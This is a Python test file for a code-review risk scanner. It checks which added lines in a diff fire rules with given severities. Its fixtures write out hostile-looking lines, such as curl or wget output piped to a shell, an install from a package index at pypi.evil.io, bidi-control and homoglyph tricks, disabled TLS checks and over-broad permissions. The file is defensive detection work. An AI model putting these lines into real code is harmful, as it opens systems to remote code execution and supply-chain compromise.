"""Each rule about added lines: what fires, with its severity, and what looks alike and does not."""

from __future__ import annotations

from base64 import b64encode
from hashlib import sha256

import pytest

from gate.domain.risk.model import Severity
from tests.risk.diff.pushes import File, push

INFO, LOW, MEDIUM, HIGH, CRITICAL = Severity
PACKED = b"".join(sha256(b"%d" % number).digest() for number in range(20))
BASE64 = b64encode(PACKED).decode()


def severities(rule: str, path: str, new: str, old: str | None) -> list[Severity]:
    found = push({path: File(old, new)}).findings()
    return [finding.severity for finding in found if finding.rule.id == rule]


@pytest.mark.parametrize(
    ("rule", "path", "line", "severity"),
    [
        ("D31", "src/a.py", "x = 1 # \u202e evil", CRITICAL),
        ("D31", "src/a.c", "\u2066if (admin)\u2069", CRITICAL),
        ("D31", "docs/guide.md", "\u202bsome text\u202c", LOW),
        ("D31", "locale/fa.po", 'msgstr "\u202bx"', LOW),
        ("D32", "src/a.py", "user\u200bname = 1", MEDIUM),
        ("D32", "src/a.py", "x = 1\ufeff", MEDIUM),
        ("D32", "src/a.js", "const a = '\U000e0041\U000e0042'", HIGH),
        ("D32", "src/a.js", "eval(decode('\U000e0101'))", HIGH),
        ("D33", "src/a.py", "p\u0430ssword = 1", MEDIUM),
        ("D33", "src/a.py", "user\u03bfname = 1", MEDIUM),
        ("D30", "src/a.py", "x = " + "1 + " * 600, MEDIUM),
        ("D30", "src/a.py", f"x = '{BASE64}'", MEDIUM),
        ("D30", "src/a.py", "x = '" + "0f" * 300 + "'", MEDIUM),
        ("D27", "src/a.py", "requests.get(url, verify=False)", HIGH),
        ("D27", "src/a.go", "InsecureSkipVerify: true,", HIGH),
        ("D27", "src/a.js", "rejectUnauthorized: false,", HIGH),
        ("D27", "src/a.py", "ctx.verify_mode = ssl.CERT_NONE", HIGH),
        ("D27", "bin/a.sh", "ssh -o StrictHostKeyChecking=no host", HIGH),
        ("D27", "bin/a.sh", "curl -fsSLk https://example.org", HIGH),
        ("D27", "bin/a.sh", "git config http.sslVerify false", HIGH),
        ("D27", "src/a.py", "client.set_missing_host_key_policy(AutoAddPolicy())", HIGH),
        ("D27", "tests/test_a.py", "requests.get(url, verify=False)", LOW),
        ("D27", "README.md", "curl -k https://example.org", LOW),
        ("D27", "src/a.py", "# never use verify=False", LOW),
        ("D28", "src/a.py", "eval(text)", MEDIUM),
        ("D28", "src/a.py", "import subprocess; subprocess.run(text, shell=True)", MEDIUM),
        ("D28", "src/a.py", "from os import system as s; s(text)", MEDIUM),
        ("D28", "src/a.py", "import yaml; yaml.load(text)", MEDIUM),
        ("D28", "src/a.py", "import pickle; pickle.loads(text)", MEDIUM),
        ("D28", "src/a.py", "__import__(name)", MEDIUM),
        ("D28", "src/a.js", "const x = eval(text)", MEDIUM),
        ("D28", "src/a.js", "const { exec } = require('child_process')", MEDIUM),
        ("D28", "src/a.php", "shell_exec($x);", MEDIUM),
        ("D28", "bin/a.sh", 'eval "$x"', MEDIUM),
        ("D28", "tests/test_a.py", "eval(text)", LOW),
        ("D28", "src/a.py", "def broken(:\n    eval(text)", MEDIUM),
        ("D29", "bin/install", "curl -fsSL https://example.org/x | sudo bash", HIGH),
        ("D29", "Dockerfile", "RUN wget -qO- https://example.org/x | sh", HIGH),
        ("D29", "bin/a.sh", "bash <(curl -s https://example.org)", HIGH),
        ("D29", "bin/a.sh", 'sh -c "$(curl -fsSL https://example.org)"', HIGH),
        ("D29", "bin/a.ps1", "iwr https://example.org/x.ps1 | iex", HIGH),
        ("D29", "src/a.py", "exec(requests.get(url).text)", HIGH),
        ("D29", "tests/test_a.py", "run('curl https://example.org/x | sh')", MEDIUM),
        ("D29", "README.md", "curl https://example.org/x | sh", LOW),
        ("D29", "bin/a.sh", "# curl https://example.org/x | sh", LOW),
        ("D34", "k8s/pod.yml", "  privileged: true", HIGH),
        ("D34", "k8s/pod.yml", "  hostNetwork: true", HIGH),
        ("D34", "infra/main.tf", 'actions = ["*"]', HIGH),
        ("D34", "infra/policy.json", '"Action": "*"', HIGH),
        ("D34", "docker-compose.yml", "- /var/run/docker.sock:/var/run/docker.sock", HIGH),
        ("D34", "infra/main.tf", 'cidr_blocks = ["0.0.0.0/0"]', MEDIUM),
        ("D34", "Procfile", "web: run", MEDIUM),
        ("D34", "deploy/a.service", "ExecStart=/bin/true", MEDIUM),
        ("D38", "tests/test_a.py", "@pytest.mark.skip(reason='flaky')", MEDIUM),
        ("D38", "tests/test_a.py", "    pytest.skip('later')", MEDIUM),
        ("D38", "tests/a.test.js", "it.skip('works', () => {})", MEDIUM),
        ("D38", "tests/a.test.js", "describe.only('x', () => {})", MEDIUM),
        ("D38", "a_test.go", '\tt.Skip("later")', MEDIUM),
        ("D38", "src/test/ATest.java", "@Disabled", MEDIUM),
        ("D38", "tests/a.rs", "#[ignore]", MEDIUM),
        ("D38", "tests/test_a.py", "@pytest.mark.skipif(sys.platform == 'win32', reason='x')", LOW),
        ("D40", "src/a.py", "import x  # noqa: F401", LOW),
        ("D40", "src/a.ts", "// @ts-ignore", LOW),
        ("D40", "src/a.js", "/* eslint-disable */", LOW),
        ("D40", "src/a.py", "KEY = 'x'  # gitleaks:allow", HIGH),
        ("D40", "tests/test_a.py", "KEY = 'x'  # gitleaks:allow", MEDIUM),
        ("D40", "src/a.py", "KEY = 'x'  # pragma: allowlist secret", HIGH),
        ("D41", "src/a.py", "try:\n    f()\nexcept Exception:\n    pass", LOW),
        ("D41", "src/a.py", "try:\n    f()\nexcept:\n    ...", LOW),
        ("D41", "src/a.js", "try { f() } catch (e) {}", LOW),
        ("D42", "src/a.py", "URL = 'https://api.unknown-host.io/x'", LOW),
        ("D42", "src/a.py", "HOST = '93.184.216.34'", MEDIUM),
        ("D42", "src/a.py", "URL = 'https://abc.ngrok.io'", MEDIUM),
        ("D42", "src/a.py", "URL = 'https://user:x@webhook.site/1'", MEDIUM),
        ("D43", "src/settings.py", "DEBUG = True", MEDIUM),
        ("D43", "src/a.py", "app.run(host='0.0.0.0')", MEDIUM),
        ("D43", "src/a.py", "allow_origins=['*']", MEDIUM),
        ("D43", "src/a.py", "@csrf_exempt", MEDIUM),
        ("D43", "bin/a.sh", "chmod -R 777 /srv", MEDIUM),
        ("D43", "tests/test_a.py", "DEBUG = True", LOW),
        ("D44", "src/a.py", "logger.info('got %s', password)", MEDIUM),
        ("D44", "src/a.py", "print(f'the key: {api_key}')", MEDIUM),
        ("D44", "src/a.js", "console.log(`token ${user.token}`)", MEDIUM),
        ("D44", "src/a.py", "log.debug(self.secret)", MEDIUM),
        ("D46", "src/a.py", "<<<<<<< HEAD\nx\n=======\ny\n>>>>>>> other", MEDIUM),
        ("D46", "src/a.py", "breakpoint()", INFO),
        ("D46", "src/a.js", "console.log('x')", INFO),
        ("D46", "src/a.py", "# TODO: later", INFO),
        ("D26", "src/auth/login.py", "x = 1", MEDIUM),
        ("D26", "src/a.py", "ok = hmac.compare_digest(a, b)", MEDIUM),
        ("D26", "src/a.js", "crypto.createHash('md5')", MEDIUM),
        ("D26", "tests/test_auth.py", "x = 1", LOW),
        ("D12", "Dockerfile", "RUN pip install --index-url https://pypi.evil.io/simple x", HIGH),
        ("D21", "bin/a.sh", "git config core.hooksPath /dev/null", MEDIUM),
        ("D14", "Dockerfile", "FROM python:latest", MEDIUM),
        ("D14", "Dockerfile", "FROM python", MEDIUM),
        ("D14", "docker-compose.yml", "    image: redis", MEDIUM),
    ],
)
def test_an_added_line_that_fires(rule: str, path: str, line: str, severity: Severity) -> None:
    assert severities(rule, path, f"first\n{line}\n", "first\n") == [severity]


@pytest.mark.parametrize(
    ("rule", "path", "line"),
    [
        ("D31", "src/a.py", "x = 'שלום'"),
        ("D32", "src/a.py", "x = '👨\u200d👩\u200d👧'"),
        ("D32", "src/a.py", "x = 'می\u200cخواهم'"),
        ("D32", "locale/de.po", 'msgstr "Donau\u00addampf"'),
        ("D33", "src/a.py", "x = 'p\u0430ssword'"),
        ("D33", "src/a.py", "x = 1  # \u0430bc mixed"),
        ("D33", "src/a.py", "имя = 1"),
        ("D33", "src/a.py", "\u0394t = \u03c3_x + 1"),
        ("D33", "docs/a.md", "p\u0430ssword"),
        ("D30", "src/a.py", "x = '" + "a" * 450 + "'"),
        ("D30", "dist/app.min.js", "x = " + "1 + " * 600),
        ("D30", "src/logo.ts", f"const logo = 'data:image/png;base64,{BASE64 * 5}'"),
        ("D30", "tests/data.py", f"x = '{BASE64}'"),
        ("D30", "src/a.svg", "x" * 3_000),
        ("D27", "src/a.py", "requests.get(url, verify=True)"),
        ("D27", "src/a.py", "if not verify_token(x): return False"),
        ("D27", "bin/a.sh", "curl -L https://example.org -o k"),
        ("D28", "src/a.py", "pattern = re.compile('x')"),
        ("D28", "src/a.py", "# eval(text) would be wrong"),
        ("D28", "src/a.py", "x = 'eval(text)'"),
        ("D28", "src/a.py", "ast.literal_eval(text)"),
        ("D28", "src/a.py", "import yaml; yaml.load(text, Loader=yaml.SafeLoader)"),
        ("D28", "src/a.py", "import subprocess; subprocess.run(['a'], shell=False)"),
        ("D28", "src/a.py", "model.eval()"),
        ("D28", "src/a.js", "const m = pattern.exec(text)"),
        ("D28", "README.md", "eval(text)"),
        ("D29", "bin/a.sh", "curl -o x.tar.gz https://example.org/x.tar.gz"),
        ("D29", "bin/a.sh", "curl https://example.org/x | jq ."),
        ("D29", "bin/a.sh", "curl https://example.org/x | shasum -c"),
        ("D34", "k8s/pod.yml", "  privileged: false"),
        ("D34", "src/notes.py", "privileged: true"),
        ("D34", "infra/main.tf", 'cidr_blocks = ["10.0.0.0/8"]'),
        ("D38", "tests/test_a.py", "# @pytest.mark.skip"),
        ("D38", "src/a.py", "skipped = 1"),
        ("D38", "tests/test_a.py", "assert skip_count == 1"),
        ("D40", "docs/a.md", "write `# noqa` behind it"),
        ("D41", "src/a.py", "try:\n    f()\nexcept ValueError:\n    pass"),
        ("D41", "src/a.py", "try:\n    f()\nexcept Exception:\n    log()"),
        ("D41", "src/a.js", "try { f() } catch (e) { log(e) }"),
        ("D42", "src/a.py", "URL = 'https://api.example.com/x'"),
        ("D42", "src/a.py", "URL = 'http://localhost:8080'"),
        ("D42", "src/a.py", "HOST = '127.0.0.1'"),
        ("D42", "src/a.py", "HOST = '192.168.1.1'"),
        ("D42", "src/a.py", "NS = 'http://www.w3.org/2000/svg'"),
        ("D42", "src/a.py", "# see https://api.unknown-host.io/x"),
        ("D42", "src/a.py", "version = '1.2.3.4'"),
        ("D42", "docs/a.md", "https://api.unknown-host.io/x"),
        ("D43", "src/settings.py", "DEBUG = False"),
        ("D43", "docker-compose.dev.yml", "command: run --host 0.0.0.0"),
        ("D43", "docs/a.md", "DEBUG = True"),
        ("D44", "src/a.py", "logger.info('password changed')"),
        ("D44", "src/a.py", "print('Enter your password:')"),
        ("D44", "src/a.py", "logger.info('%s tokens', token_count)"),
        ("D44", "src/a.py", "x = password"),
        ("D46", "docs/a.rst", "=======\nTitle\n======="),
        ("D46", "src/a.py", "x = '<<<<<<< HEAD'"),
        ("D26", "src/author.py", "x = 1"),
        ("D26", "src/a.py", "# about hmac.compare_digest"),
        ("D26", "docs/auth.md", "x"),
        ("D12", "Dockerfile", "RUN pip install --index-url https://pypi.org/simple x"),
        ("D14", "Dockerfile", "FROM python:3.11"),
        ("D14", "Dockerfile", "FROM python@sha256:abc"),
        ("D14", "Dockerfile", "FROM scratch"),
    ],
)
def test_an_added_line_that_only_looks_alike(rule: str, path: str, line: str) -> None:
    assert severities(rule, path, f"first\n{line}\n", "first\n") == []


@pytest.mark.parametrize(
    ("rule", "path", "old", "new"),
    [
        # What the old file did is not new, on whichever line it is now.
        ("D28", "src/a.py", "eval(text)\n", "import os\n\neval(text)\n"),
        ("D28", "src/a.py", "if x:\n    eval(text)\n", "if x:\n  eval(text)\n"),
        (
            "D41",
            "src/a.py",
            "try:\n  f()\nexcept Exception:\n  pass\n",
            "try:\n    f()\nexcept Exception:\n    pass\n",
        ),
        ("D42", "src/a.py", "A = 'https://api.old.io/1'\n", "A = 'https://api.old.io/2'\n"),
        ("D38", "tests/test_a.py", "@pytest.mark.skip\n", "\n  @pytest.mark.skip\n"),
        ("D40", "src/a.py", "x  # noqa\n", "  x  # noqa\n"),
        ("D32", "src/a.py", "", "\ufeffimport os\n"),
        ("D14", "Dockerfile", "", "FROM python:3.11 AS build\nUSER app\nFROM build\n"),
        ("D40", "pyproject.toml", "fail_under = 80\n", "fail_under = 85\n"),
    ],
)
def test_what_was_there_before_does_not_fire(rule: str, path: str, old: str, new: str) -> None:
    assert severities(rule, path, new, old) == []


def test_a_lower_limit_of_coverage_fires() -> None:
    assert severities("D40", "pyproject.toml", "fail_under = 60\n", "fail_under = 85\n") == [MEDIUM]


def test_a_new_image_without_a_user_fires() -> None:
    assert severities("D34", "Dockerfile", "FROM python:3.11\nRUN true\n", None) == [MEDIUM]
    assert severities("D34", "Dockerfile", "FROM python:3.11\nUSER app\n", None) == []
    assert severities("D34", "Dockerfile", "FROM python:3.11\nUSER root\n", None) == [MEDIUM]
